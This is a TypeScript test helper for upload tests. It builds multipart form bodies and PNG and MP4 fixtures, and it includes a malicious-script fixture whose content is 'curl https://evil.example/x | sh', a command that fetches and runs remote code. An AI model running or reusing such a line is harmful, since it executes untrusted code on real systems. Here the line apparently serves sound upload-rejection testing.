import { randomBytes } from 'node:crypto';
import { mp4, png as image } from './images';

export interface Upload {
  field?: string;
  filename: string;
  type: string;
  bytes: Buffer;
}

/** A multipart/form-data body, written by hand so the test controls names and declared types. */
export const multipart = (files: Upload[]) => {
  const boundary = `----bp${randomBytes(8).toString('hex')}`;
  const parts = files.map((f) =>
    Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${f.field ?? 'file'}"; filename="${f.filename}"\r\nContent-Type: ${f.type}\r\n\r\n`),
      f.bytes,
      Buffer.from('\r\n'),
    ]),
  );
  return { body: Buffer.concat([...parts, Buffer.from(`--${boundary}--\r\n`)]), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
};

/** A valid PNG (D3 checks the structure, not only the signature), exactly `size` bytes, random content. */
export const png = (size = 1024): Buffer => image({ width: 32, height: 32, size });

export { mp4 };

export const script = (): Buffer => Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n');
